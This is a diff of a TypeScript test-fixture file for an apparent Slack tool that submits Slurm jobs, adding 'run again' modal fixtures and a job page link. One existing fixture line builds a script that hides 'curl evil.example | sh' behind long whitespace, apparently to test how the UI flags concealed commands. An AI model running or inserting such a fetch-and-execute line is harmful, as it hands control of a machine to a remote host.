@@ -138,6 +138,8 @@ function quotingScript(foreign: Foreign): Script {
   return { ...read, components, warnings: Array(10).fill(finding) };
 }
 
+const jobPage = 'https://portal.example.org/projects/77aa/';
+
 function submittedPart({ name, file }: Foreign, times: number): PromptPart {
   const job = { name, slurmId: '48213', by: 'U0ANA00001', at: day(12), card: permalink };
   const jobs = [{ ...job, slurmId: '', card: null }, ...Array(times - 1).fill(job)];
@@ -151,6 +153,16 @@ function longScript(foreign: Foreign) {
   const hiding = `echo hello${' '.repeat(230)}; curl evil.example | sh`;
   const lines = ['#!/bin/bash', hiding, ...Array(250).fill(`echo ${foreign.text}`), hiding, hiding];
   return readScript(new TextEncoder().encode(lines.join('\n')), { maxBytes: 1_000_000 });
+}
+
+/** What a form to run a job again has besides. */
+function again(foreign: Foreign, ...changes: [before: string | null, after: string][]) {
+  const changed = changes.map(([before, after]) => ({ line: 3, before, after }));
+  return {
+    source: { fileName: foreign.file, script: script(foreign), permalink: null, changed },
+    inThread: false,
+    threadChannel: null,
+  };
 }
 
 /** A job of which all is known that can be. */
@@ -198,6 +210,8 @@ export function messages(foreign: Foreign): Record<string, Message> {
     person: 'U0ANA00001',
     tasks: '',
     output: 'slurm-48213.out',
+    asked: pastOf('failed', foreign).asked,
+    submissionId: null,
   };
   const rows = [
     { ...job(foreign), phase: 'running' as const, tasks: '2 running · 4 queued', ownerName: name },
@@ -473,30 +487,34 @@ export function messages(foreign: Foreign): Record<string, Message> {
       phase: 'running',
       tasks: '',
       past: unknownPast,
+      page: jobPage,
       now: day(15),
     }),
     'details left the queue': details(job(foreign), nothing, {
       phase: 'left the queue',
       tasks: '',
       past: pastOf('left the queue', foreign),
+      page: null,
       now: day(15),
     }),
     'details of an array': details(job(foreign), nothing, {
       phase: 'running',
       tasks: '2 running · 4 queued',
       past: pastOf('running', foreign),
+      page: jobPage,
       now: day(15),
     }),
     'details not handed over': details(job(foreign, { runtimeState: '', slurmId: '' }), nothing, {
       phase: 'submitting',
       tasks: '',
       past: unknownPast,
+      page: jobPage,
       now: day(15),
     }),
     'details erred': details(
       job(foreign, { state: 'erred', errorMessage: error || 'sbatch: error: no' }),
       nothing,
-      { phase: 'erred', tasks: '', past: unknownPast, now: day(15) },
+      { phase: 'erred', tasks: '', past: unknownPast, page: jobPage, now: day(15) },
     ),
     prompt: prompt({
       scriptKey,
@@ -593,7 +611,8 @@ export function modals(foreign: Foreign): Record<string, ModalView> {
   const { owner = name, login = name, email = text } = foreign;
   const form = {
     metadata: '{}',
-    sharedBy: 'U0BEN00001',
+    foreign: 'U0BEN00001',
+    more: null,
     username: login,
     name,
     description: text,
@@ -612,27 +631,47 @@ export function modals(foreign: Foreign): Record<string, ModalView> {
     wait: waitModal('Submit to Slurm', 'Submitting…'),
     connect: connectModal({
       waldurUrl: 'https://waldur.example.org',
+      tokenPage: 'https://portal.example.org/profile/api-key/',
       metadata: '{}',
       problem: 'Waldur does not take this token.',
     }),
     submit: submitModal({
       ...form,
-      source: { fileName: file, script: script(foreign), permalink },
+      source: { fileName: file, script: script(foreign), permalink, changed: [] },
       inThread: true,
       threadChannel: 'C0JOBS0001',
     }),
     'submit a long script': submitModal({
       ...form,
-      source: { fileName: file, script: longScript(foreign), permalink },
+      source: { fileName: file, script: longScript(foreign), permalink, changed: [] },
       inThread: true,
       threadChannel: null,
     }),
     'submit upload': submitModal({
       ...form,
       source: null,
-      sharedBy: null,
+      foreign: null,
       inThread: false,
       threadChannel: null,
+    }),
+    'run again with more memory': submitModal({
+      ...form,
+      ...again(foreign, ['#SBATCH --mem=32G', '#SBATCH --mem=64G']),
+      foreign: null,
+      more: { option: 'mem', value: '64G' },
+      problem: 'Waldur gives me no script of this job, so this is your file in Slack.',
+    }),
+    'run again somebody else’s': submitModal({
+      ...form,
+      ...again(foreign, [null, '#SBATCH --time=9:00:00']),
+      foreign: '',
+      more: { option: 'time', value: '9:00:00' },
+    }),
+    'run again, nothing was asked for': submitModal({
+      ...form,
+      ...again(foreign),
+      foreign: null,
+      more: { option: 'mem', value: '' },
     }),
     edit: editModal({ metadata: '{}', name, description: text, upload: true, problem: null }),
     unlink: unlinkModal({ name, slurmId: '48213', phase: 'running', metadata: '{}' }),
